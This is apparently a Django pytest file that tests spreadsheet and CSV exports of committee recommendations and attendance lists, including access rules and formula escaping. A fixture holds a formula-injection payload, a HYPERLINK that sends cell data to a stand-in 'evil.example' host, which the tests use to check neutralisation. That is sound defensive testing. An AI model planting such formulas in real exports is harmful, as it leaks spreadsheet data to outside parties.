"""Spreadsheets of the recommendations and of the attendance list (XLSX and CSV), read back."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from participants.models import Attendance
from reports.models import Minutes
from tests.factories import (
    AttendanceFactory,
    CommitteeFactory,
    OrganizationFactory,
    PersonFactory,
    RecommendationFactory,
    SessionFactory,
)

pytestmark = pytest.mark.django_db

RECOMMENDATION_HEADERS = [
    "N°",
    "Type",
    "Recommandation ou blocage",
    "Solution",
    "Responsable",
    "Échéance",
    "État",
]


@pytest.fixture
def session_18(db):
    session = SessionFactory(committee=CommitteeFactory(), number=18)
    pam = OrganizationFactory(acronym="PAM", name="Programme Alimentaire Mondial")
    RecommendationFactory(
        session=session,
        order=1,
        text="Partager le PTBA avec les partenaires",
        responsible=pam,
        due_date=datetime.date(2019, 12, 31),
    )
    RecommendationFactory(
        session=session,
        order=2,
        kind="blocker",
        text="Retard des paiements à Tominian",
        solution="Mobiliser un second opérateur",
        responsible=None,
        responsible_label="UTGFS",
        due_date=None,
    )
    RecommendationFactory(
        session=session,
        order=3,
        text='=HYPERLINK("http://evil.example/?"&A1;"Cliquer")',
        responsible=pam,
        due_date=None,
    )
    tangara = PersonFactory(
        civility="Dr",
        first_name="Hassane",
        last_name="Tangara",
        function="Directeur",
        organization=OrganizationFactory(acronym="ANAM"),
        phone="+223 20 22 00 00",
        email="h.tangara@anam.ml",
    )
    AttendanceFactory(session=session, person=tangara)
    AttendanceFactory(
        session=session,
        person=PersonFactory(first_name="Fatou", last_name="Traoré", organization=pam),
        status=Attendance.Status.REPRESENTED,
        represented_by="Awa Keïta",
        present_days=0b011,  # the first two days
    )
    return session


def validate(session):
    Minutes.objects.create(session=session, status=Minutes.Status.VALIDATED)


def workbook_rows(response):
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_recommendations_as_xlsx(login, secretariat, session_18):
    response = login(secretariat).get(
        reverse("sessions:recommendations_xlsx", args=[session_18.pk])
    )

    sheet, rows = workbook_rows(response)
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''CTN-18%C3%A8me-session-ordinaire-recommandations.xlsx"
    )
    assert sheet.title == "Recommandations"
    assert rows == [
        RECOMMENDATION_HEADERS,
        [
            1,
            "recommandation",
            "Partager le PTBA avec les partenaires",
            None,
            "PAM",
            datetime.datetime(2019, 12, 31),
            "ouverte",
        ],
        [
            1,
            "blocage et solution",
            "Retard des paiements à Tominian",
            "Mobiliser un second opérateur",
            "UTGFS",
            None,
            "ouverte",
        ],
        [
            2,
            "recommandation",
            '=HYPERLINK("http://evil.example/?"&A1;"Cliquer")',
            None,
            "PAM",
            None,
            "ouverte",
        ],
    ]
    assert sheet["F2"].number_format == "DD/MM/YYYY"
    assert sheet.freeze_panes == "A2"


def test_a_formula_in_a_text_stays_text_in_the_xlsx(login, secretariat, session_18):
    response = login(secretariat).get(
        reverse("sessions:recommendations_xlsx", args=[session_18.pk])
    )

    sheet, _rows = workbook_rows(response)
    cell = sheet["C4"]
    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1;"Cliquer")'
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    assert sheet["C2"].quotePrefix is False


def test_the_recommendations_as_csv_for_excel_in_french(login, secretariat, session_18):
    response = login(secretariat).get(reverse("sessions:recommendations_csv", args=[session_18.pk]))

    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''CTN-18%C3%A8me-session-ordinaire-recommandations.csv"
    )
    assert csv_rows(response) == [
        RECOMMENDATION_HEADERS,
        [
            "1",
            "recommandation",
            "Partager le PTBA avec les partenaires",
            "",
            "PAM",
            "31/12/2019",
            "ouverte",
        ],
        [
            "1",
            "blocage et solution",
            "Retard des paiements à Tominian",
            "Mobiliser un second opérateur",
            "UTGFS",
            "",
            "ouverte",
        ],
        [
            "2",
            "recommandation",
            '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquer")',
            "",
            "PAM",
            "",
            "ouverte",
        ],
    ]


@pytest.mark.parametrize("text", ["+33 1 23", "-2 points", "@SUM(A1:A2)", "\tonglet"])
def test_every_formula_trigger_is_neutralised_in_csv(login, secretariat, text):
    session = SessionFactory()
    RecommendationFactory(session=session, text=text)

    rows = csv_rows(
        login(secretariat).get(reverse("sessions:recommendations_csv", args=[session.pk]))
    )

    assert rows[1][2] == f"'{text}"


def test_control_characters_are_dropped_from_the_xlsx_not_an_error(login, secretariat):
    session = SessionFactory()
    RecommendationFactory(session=session, text="Texte\x0bcollé\x1f depuis Word")

    response = login(secretariat).get(reverse("sessions:recommendations_xlsx", args=[session.pk]))

    _sheet, rows = workbook_rows(response)
    assert rows[1][2] == "Textecollé depuis Word"


def test_the_attendance_list_with_contacts_for_the_secretariat(login, secretariat, session_18):
    response = login(secretariat).get(reverse("sessions:attendance_xlsx", args=[session_18.pk]))

    _sheet, rows = workbook_rows(response)
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''CTN-18%C3%A8me-session-ordinaire-presence.xlsx"
    )
    assert rows == [
        [
            "N°",
            "Civilité",
            "Prénom",
            "Nom",
            "Structure",
            "Fonction",
            "Présence",
            "Représenté(e) par",
            "Jours de présence",
            "Téléphone",
            "E-mail",
        ],
        [
            1,
            "Dr",
            "Hassane",
            "TANGARA",
            "ANAM",
            "Directeur",
            "présent",
            None,
            "26/09, 27/09 et 28/09",
            "+223 20 22 00 00",
            "h.tangara@anam.ml",
        ],
        [
            2,
            "M.",
            "Fatou",
            "TRAORÉ",
            "PAM",
            "Chargé de suivi",
            "représenté",
            "Awa Keïta",
            "26/09 et 27/09",
            None,
            None,
        ],
    ]


def test_a_partner_gets_the_attendance_list_without_phones_and_e_mails(login, partner, session_18):
    validate(session_18)

    rows = csv_rows(login(partner).get(reverse("sessions:attendance_csv", args=[session_18.pk])))

    assert rows[0][-2:] == ["Représenté(e) par", "Jours de présence"]
    assert rows[1] == [
        "1",
        "Dr",
        "Hassane",
        "TANGARA",
        "ANAM",
        "Directeur",
        "présent",
        "",
        "26/09, 27/09 et 28/09",
    ]


@pytest.mark.parametrize(
    "name", ["recommendations_xlsx", "recommendations_csv", "attendance_xlsx", "attendance_csv"]
)
def test_a_partner_gets_a_404_for_a_session_without_validated_minutes(
    login, partner, session_18, name
):
    response = login(partner).get(reverse(f"sessions:{name}", args=[session_18.pk]))

    assert response.status_code == 404


@pytest.mark.parametrize(
    "name", ["recommendations_xlsx", "recommendations_csv", "attendance_xlsx", "attendance_csv"]
)
def test_a_partner_downloads_the_tables_of_a_validated_session(login, partner, session_18, name):
    validate(session_18)

    response = login(partner).get(reverse(f"sessions:{name}", args=[session_18.pk]))

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize(
    "name", ["recommendations_xlsx", "attendance_csv", "all_recommendations_xlsx"]
)
def test_anonymous_is_sent_to_log_in_for_an_export(client, session_18, name):
    args = [] if name.startswith("all_") else [session_18.pk]
    url = reverse(f"sessions:{name}", args=args)

    response = client.get(url)

    assert response.status_code == 302
    assert response.url == f"{reverse('login')}?next={url}"


def test_an_export_refuses_post(login, secretariat, session_18):
    response = login(secretariat).post(
        reverse("sessions:recommendations_xlsx", args=[session_18.pk])
    )

    assert response.status_code == 405


def test_an_export_of_an_unknown_session_is_a_404(login, coordinator):
    response = login(coordinator).get(reverse("sessions:attendance_xlsx", args=[999]))

    assert response.status_code == 404


def test_every_recommendation_a_partner_may_see_in_one_file(login, partner, session_18):
    validate(session_18)
    draft = SessionFactory(committee=session_18.committee, number=19)
    RecommendationFactory(session=draft, text="Pas encore validée")

    rows = csv_rows(login(partner).get(reverse("sessions:all_recommendations_csv")))

    assert rows[0] == ["Comité", "Session", "Début de la session", *RECOMMENDATION_HEADERS]
    assert [row[:4] + [row[5]] for row in rows[1:]] == [
        [
            "CTN",
            "18ème session ordinaire",
            "26/09/2019",
            "1",
            "Partager le PTBA avec les partenaires",
        ],
        ["CTN", "18ème session ordinaire", "26/09/2019", "1", "Retard des paiements à Tominian"],
        [
            "CTN",
            "18ème session ordinaire",
            "26/09/2019",
            "2",
            '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquer")',
        ],
    ]


def test_every_recommendation_for_the_coordinator_latest_session_first(login, coordinator):
    committee = CommitteeFactory()
    old = SessionFactory(committee=committee, number=17, start_date=datetime.date(2019, 6, 26))
    new = SessionFactory(committee=committee, number=18)
    RecommendationFactory(session=old, text="De la 17ème")
    RecommendationFactory(session=new, text="De la 18ème")

    response = login(coordinator).get(reverse("sessions:all_recommendations_xlsx"))

    _sheet, rows = workbook_rows(response)
    assert response["Content-Disposition"] == 'attachment; filename="recommandations.xlsx"'
    assert [(row[1], row[5]) for row in rows[1:]] == [
        ("18ème session ordinaire", "De la 18ème"),
        ("17ème session ordinaire", "De la 17ème"),
    ]


@pytest.mark.parametrize("name", ["recommendations_xlsx", "attendance_csv"])
def test_an_export_makes_the_same_queries_for_one_or_three_rows(login, secretariat, name):
    client = login(secretariat)
    small, large = SessionFactory(number=50), SessionFactory(number=51)
    for session, count in ((small, 1), (large, 3)):
        for _ in range(count):
            RecommendationFactory(session=session)
            AttendanceFactory(session=session)

    counts = []
    for session in (small, large):
        url = reverse(f"sessions:{name}", args=[session.pk])
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        counts.append(len(queries))

    assert counts[0] == counts[1]
